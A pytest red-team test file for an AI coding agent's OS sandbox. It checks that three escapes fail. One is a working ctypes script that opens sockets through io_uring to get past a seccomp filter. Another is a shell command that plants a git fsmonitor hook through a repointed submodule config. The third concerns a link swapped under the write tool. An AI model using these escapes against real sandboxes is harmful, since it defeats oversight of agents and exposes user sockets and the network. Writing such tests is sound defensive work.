"""Ways out of nestor's OS sandbox: a submodule's ``.git``, sockets made through io_uring, and the
``write`` tool following a link a sandboxed command swapped in.

SECURITY.md, "OS sandbox": nothing git reads (config, ..., submodules' configs) can be changed or
created while a command runs; agents without write tools "may not create Unix sockets (a seccomp
filter): no ssh-agent, Docker or D-Bus socket is reachable from them"; under Landlock "the seccomp
filter refuses IP sockets (UDP included) to commands without network". "Permission rules": file
tools match the real path, and a bare write or ``edit(src/**)`` covers the project only.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import tempfile
import threading
from pathlib import Path

import pytest

from nestor.testing import ScriptedOpenAIServer, ServerReply, ServerToolCall
from tests.cli.support import git_repo, nestor, openai_env
from tests.cli.test_sandbox_e2e import READER
from tests.hostile_repos import git
from tests.redteam.support import MODEL, landlock_path, run_calls, user_config
from tests.server_routes import Route, router, task_call

pytestmark = pytest.mark.timeout(240)

# A socket made with io_uring's IORING_OP_SOCKET (Linux 5.19+): no socket(2) call for seccomp to refuse.
URING_SOCKET = r"""
import ctypes, mmap, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
target, payload = sys.argv[1], sys.argv[2].encode()
udp = target.startswith("udp:")
family, kind = (socket.AF_INET, socket.SOCK_DGRAM) if udp else (socket.AF_UNIX, socket.SOCK_STREAM)
params = ctypes.create_string_buffer(120)
ring_fd = libc.syscall(425, ctypes.c_uint(4), params)  # io_uring_setup
assert ring_fd >= 0, ctypes.get_errno()
sq_entries, cq_entries = struct.unpack_from("2I", params, 0)
sq_off, cq_off = struct.unpack_from("7IIQ", params, 40), struct.unpack_from("7IIQ", params, 80)
size = max(sq_off[6] + sq_entries * 4, cq_off[5] + cq_entries * 16)
shared, rw = mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE
ring = mmap.mmap(ring_fd, size, shared, rw, offset=0)
sqes = mmap.mmap(ring_fd, sq_entries * 64, shared, rw, offset=0x10000000)  # IORING_OFF_SQES
# IORING_OP_SOCKET (45): fd = family, off = type, len = protocol
sqes[0:64] = struct.pack("=BBHiQQIIQHHIQQ", 45, 0, 0, family, kind, 0, 0, 0, 1, 0, 0, 0, 0, 0)
tail, mask = struct.unpack_from("I", ring, sq_off[1])[0], struct.unpack_from("I", ring, sq_off[2])[0]
struct.pack_into("I", ring, sq_off[6] + (tail & mask) * 4, 0)
struct.pack_into("I", ring, sq_off[1], tail + 1)
libc.syscall(426, ring_fd, 1, 1, 1, None, 0)  # io_uring_enter, wait for one completion
head, cmask = struct.unpack_from("I", ring, cq_off[0])[0], struct.unpack_from("I", ring, cq_off[2])[0]
_, fd, _ = struct.unpack_from("QiI", ring, cq_off[5] + (head & cmask) * 16)
assert fd >= 0, fd
made = socket.socket(fileno=fd)
if udp:
    host, port = target[4:].rsplit(":", 1)
    made.sendto(payload, (host, int(port)))
else:
    made.connect(target)
    made.sendall(payload)
print("sent")
"""


def bash(command: str) -> ServerToolCall:
    return ServerToolCall("bash", {"command": command})


def test_a_command_cannot_repoint_a_submodule_at_a_config_of_its_own(tmp_path: Path) -> None:
    inner = git_repo(tmp_path / "inner", {"i.txt": "i\n"})
    repo = git_repo(tmp_path / "repo", {"a.txt": "a\n"})
    git(repo, "submodule", "add", "-q", str(inner), "sub")
    git(repo, "commit", "-qm", "sub")
    marker = tmp_path / "ran.txt"
    evil = repo / "evil-git"  # in the project, which commands may write
    planted = (
        f"cp -r .git/modules/sub {evil} && git config -f {evil}/config --unset core.worktree; "
        f"git config -f {evil}/config core.fsmonitor 'echo fsmonitor >> {marker}; false' && "
        f"echo 'gitdir: {evil}' > sub/.git"
    )
    results = run_calls(tmp_path, repo, [[bash(planted)]], "--yolo")
    # The user's next git status in the repository, outside nestor and its sandbox.
    subprocess.run(["git", "status", "--short"], cwd=repo, capture_output=True, check=False)
    assert not marker.exists(), f"the submodule's new config ran at the user's git status: {results}"


def _listen_unix(path: Path) -> tuple[list[bytes], socket.socket]:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    listener.listen(4)
    listener.settimeout(90)
    got: list[bytes] = []

    def accept() -> None:
        try:
            while True:
                connection, _ = listener.accept()
                got.append(connection.recv(200))
                connection.close()
        except OSError:
            return

    threading.Thread(target=accept, daemon=True).start()
    return got, listener


def test_a_read_only_agent_reaches_no_unix_socket_through_io_uring(tmp_path: Path) -> None:
    repo = git_repo(tmp_path / "repo", {"README.md": "hi\n", ".claude/agents/reader.md": READER})
    (repo / "uring_socket.py").write_text(URING_SOCKET)
    # An ssh-agent's or D-Bus's socket, say: outside /tmp, which the read-only sandbox replaces.
    folder = Path(tempfile.mkdtemp(prefix="nestor-redteam-", dir="/var/tmp"))
    agent_socket = folder / "agent.sock"
    got, listener = _listen_unix(agent_socket)
    routes: dict[str, list[ServerReply | Route]] = {
        "USER": [
            ServerReply(tool_calls=(task_call("read", "read things", subagent_type="reader"),)),
            ServerReply(text="done"),
        ],
        "read things": [
            ServerReply(tool_calls=(bash(f"python3 uring_socket.py {agent_socket} from-the-reader"),)),
            ServerReply(text="read"),
        ],
    }
    try:
        with ScriptedOpenAIServer(router(routes)) as server:
            env = openai_env(tmp_path, server)
            done = nestor(["run", "--yolo", *MODEL, "USER: delegate"], cwd=repo, env=env)
    finally:
        listener.close()
        shutil.rmtree(folder, ignore_errors=True)
    assert done.returncode == 0, done.stderr
    assert got == [], "a read-only agent's command connected to a Unix socket outside its sandbox"


def test_landlock_without_network_sends_no_udp_through_io_uring(tmp_path: Path) -> None:
    repo = git_repo(tmp_path / "repo", {"README.md": "hi\n"})
    (repo / "uring_socket.py").write_text(URING_SOCKET)
    user_config(tmp_path, "[sandbox]\nnetwork = false\n")
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(5)
    port = receiver.getsockname()[1]
    try:
        results = run_calls(
            tmp_path,
            repo,
            [[bash(f"python3 uring_socket.py udp:127.0.0.1:{port} leaked")]],
            "--yolo",
            env={"PATH": landlock_path(tmp_path)},
        )
        try:
            data, _ = receiver.recvfrom(100)
        except TimeoutError:
            data = b""
    finally:
        receiver.close()
    assert data == b"", f"a command without network sent UDP under Landlock: {results}"
